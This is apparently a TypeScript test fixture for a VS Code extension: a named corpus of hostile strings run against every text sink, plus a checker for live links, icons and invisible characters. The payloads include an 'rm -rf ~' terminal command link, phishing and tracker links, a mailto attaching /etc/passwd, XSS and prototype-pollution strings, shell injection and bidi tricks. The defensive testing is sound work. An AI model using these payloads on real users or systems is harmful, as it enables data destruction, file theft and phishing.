/**
 * The hostile corpus: strings a member of the workspace, a link or a repository could plant. Every
 * sink that shows or writes text from outside runs them (unit tests per sink, the integration and
 * end-to-end runs). Grouped by the class of attack; each entry is named so a failure says which.
 * Another corpus, kept outside the repository, is run against the packaged extension too: write
 * code for the classes, not for these strings.
 */

export interface Payload {
  readonly name: string;
  readonly text: string;
}

const HUGE = 100_000;

const links: Payload[] = [
  { name: 'command link', text: 'Evil [Open Settings Now](command:workbench.action.openSettings) task' },
  {
    name: 'command link with args',
    text: '[Fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
  },
  { name: 'command link with title', text: '[ok](command:workbench.action.reloadWindow "Reload")' },
  { name: 'https link', text: 'See [the docs](https://evil.example/phish) now' },
  { name: 'file link', text: '[passwd](file:///etc/passwd)' },
  { name: 'vscode link', text: '[install](vscode:extension/evil.publisher)' },
  { name: 'javascript link', text: '[click](javascript:alert(document.cookie))' },
  { name: 'data link', text: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'nested brackets', text: '[[a]](command:workbench.action.openSettings)' },
  { name: 'reference link', text: '[go][1]\n\n[1]: command:workbench.action.openSettings' },
  { name: 'angle autolink', text: '<https://evil.example/a>' },
  { name: 'angle command autolink', text: '<command:workbench.action.openSettings>' },
  { name: 'bare url', text: 'visit https://evil.example/login today' },
  { name: 'www url', text: 'www.evil.example/login' },
  { name: 'email autolink', text: 'mail boss@evil.example please' },
  { name: 'mailto with attach', text: '[mail](mailto:a@evil.example?attach=/etc/passwd&bcc=spy@evil.example)' },
  { name: 'image tracker', text: '![pixel](https://tracker.example/p.png)' },
  { name: 'svg data image', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'link split by newline', text: '[Open]\n(command:workbench.action.openSettings)' },
  { name: 'encoded command scheme', text: '[x](command%3Aworkbench.action.openSettings)' },
  { name: 'uppercase scheme', text: '[x](COMMAND:workbench.action.openSettings)' },
];

const icons: Payload[] = [
  { name: 'icon', text: '$(bug) not a bug' },
  { name: 'spinning icon', text: '$(loading~spin) working' },
  { name: 'escaped icon', text: '\\$(check) done' },
  { name: 'many icons', text: '$(x)'.repeat(200) },
  { name: 'icon in link', text: '[$(gear)](command:workbench.action.openSettings)' },
];

const markup: Payload[] = [
  { name: 'img onerror', text: '<img src=x onerror="alert(1)">' },
  { name: 'script', text: '<script>alert(1)</script>' },
  { name: 'svg onload', text: '<svg onload=alert(1)><circle r=5 /></svg>' },
  { name: 'anchor command', text: '<a href="command:workbench.action.openSettings">settings</a>' },
  { name: 'iframe', text: '<iframe src="https://evil.example"></iframe>' },
  { name: 'style', text: '<style>*{display:none}</style>hidden' },
  { name: 'details ontoggle', text: '<details open ontoggle=alert(1)>' },
  { name: 'entities', text: '&lt;script&gt;alert(1)&lt;/script&gt; &#x5b;x&#x5d;&#40;command:a&#41;' },
  { name: 'emphasis and code', text: '**bold** _it_ `code` ~~gone~~ # Heading' },
  { name: 'html comment', text: 'a<!-- hidden -->b' },
  { name: 'markdown table', text: '| a | b |\n|---|---|\n| [x](command:a) | y |' },
];

const invisible: Payload[] = [
  { name: 'bidi override', text: 'ACME-1 \u202etxt.exe\u202c' },
  { name: 'bidi isolate', text: '\u2066admin\u2069 \u2067evil\u2069' },
  { name: 'zero width', text: 'Op\u200ben Set\u200ctin\u200dgs\ufeff' },
  { name: 'tag characters', text: 'hi \u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}' },
  { name: 'variation selectors', text: 'x\u{E0100}\u{E0101}y' },
  { name: 'control characters', text: 'a\u0000b\u0007c\u001b[31mred\u001b[0m' },
  { name: 'newline code', text: 'ACME-1\nrm -rf ~' },
  { name: 'carriage return', text: 'ACME-1\r\nimport os' },
  { name: 'line separators', text: 'a\u2028b\u2029c\u0085d' },
  { name: 'homoglyph id', text: 'ACМE-12' },
];

const template: Payload[] = [
  { name: 'template literal', text: '${process.env.HOME}' },
  { name: 'mustache', text: "{{constructor.constructor('alert(1)')()}}" },
  { name: 'format placeholder', text: '{0} {1} %s %d' },
  { name: 'erb', text: '<%= 7*7 %> #{7*7}' },
  { name: 'proto key', text: '__proto__' },
  { name: 'constructor key', text: 'constructor' },
  { name: 'proto json', text: '{"__proto__":{"polluted":true}}' },
  { name: 'comment breakout', text: '*/ require("child_process").exec("x"); /*' },
  { name: 'quote breakout', text: '"); alert(1); ("' },
  { name: 'backticks', text: '```\nrm -rf ~\n```' },
  { name: 'path traversal', text: '../../../../etc/passwd' },
  { name: 'windows path', text: 'C:\\Windows\\System32\\cmd.exe' },
  { name: 'shell', text: '$(rm -rf ~) `id` ; ls |' },
];

const huge: Payload[] = [
  { name: '100k letters', text: 'A'.repeat(HUGE) },
  { name: '100k brackets', text: '['.repeat(HUGE / 2) + ']('.repeat(HUGE / 4) },
  { name: '100k spaces', text: `TODO${' '.repeat(HUGE)}x` },
  { name: '100k icons', text: '$('.repeat(HUGE / 2) },
  { name: '100k newlines', text: 'a\n'.repeat(HUGE / 2) },
  { name: '100k emoji', text: '\u{1F600}'.repeat(HUGE / 2) },
];

export const corpus: readonly Payload[] = [...links, ...icons, ...markup, ...invisible, ...template, ...huge];

/** Payloads short enough to sit in a field the service limits (titles: 255 characters). */
export const shortCorpus: readonly Payload[] = corpus.filter((p) => [...p.text].length <= 255);

/**
 * What would be live in plain text VS Code renders: a `[text](scheme…)` link, a `$(name)` icon, an
 * invisible or reordering character other than the zero-width space `inert` puts after `$` or `]`
 * (a line break is not one: a modal's detail may have several lines). Returns the first problem.
 */
export function liveInPlainText(shown: string): string | undefined {
  if (/\]\([a-z][a-z0-9+.-]*:/i.test(shown)) {
    return 'a link';
  }
  if (/(^|[^\\])\$\([a-z0-9-]+(~[a-z]+)?\)/i.test(shown)) {
    return 'an icon';
  }
  const invisible = shown
    .replace(/\$\u200b\(|\]\u200b\(/g, '')
    .match(
      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]|\udb40[\udc00-\udc7f\udd00-\uddef]/,
    );
  return invisible ? `an invisible character U+${invisible[0].codePointAt(0)!.toString(16)}` : undefined;
}
